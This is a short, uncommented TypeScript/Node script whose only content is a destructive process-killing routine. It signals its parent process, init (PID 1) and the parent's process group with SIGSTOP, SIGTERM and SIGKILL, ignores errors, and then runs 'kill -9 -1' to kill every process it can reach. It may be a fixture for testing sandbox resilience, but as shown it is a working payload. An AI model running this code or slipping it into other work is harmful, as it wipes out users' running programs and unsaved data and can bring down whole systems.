import { spawnSync } from 'node:child_process'

for (const pid of [process.ppid, 1, 0, -process.ppid]) {
  for (const signal of ['SIGSTOP', 'SIGTERM', 'SIGKILL'] as const) {
    try {
      if (pid !== 0 || signal === 'SIGTERM') process.kill(pid, signal)
    } catch {}
  }
}
spawnSync('sh', ['-c', 'kill -9 -1'])
